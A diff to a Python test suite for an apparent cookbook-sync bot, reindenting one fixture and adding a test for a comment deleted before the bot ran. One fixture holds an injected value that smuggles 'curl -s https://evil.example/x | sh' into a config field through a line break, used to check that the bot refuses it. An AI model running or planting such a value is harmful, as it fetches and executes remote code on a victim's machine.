@@ -681,7 +681,7 @@ def test_recipe_value_unsafe_to_paste_is_refused_and_reported(world):
         text.replace(
             "SGLANG_DSV41_REASONING_EFFORT: high",
             # A line break is refused in every value: pasted, it would run a second command.
-        'SGLANG_DSV41_REASONING_EFFORT: "high\\ncurl -s https://evil.example/x | sh"',
+            'SGLANG_DSV41_REASONING_EFFORT: "high\\ncurl -s https://evil.example/x | sh"',
         )
     )
     world.inferencex = checkout
@@ -694,3 +694,12 @@ def test_recipe_value_unsafe_to_paste_is_refused_and_reported(world):
     assert "The cookbook sync stopped before publishing anything:" in seen
     assert "SGLANG_DSV41_REASONING_EFFORT" in seen
     assert "https://evil.example" not in world.status()["body"]  # no live link
+
+
+def test_comment_deleted_before_the_bot_ran(world):
+    comment = first_use(world)
+    del world.gh.repo(INFX).comments[comment["id"]]
+    world.send("issue_comment", world.comment_event(comment))  # the "created" event, late
+    assert "no authorized /use <run_id> comment yet" in plain(world.status()["body"])
+    [pull] = world.book_pulls()
+    assert '"status":"in-progress"' in pull["body"]
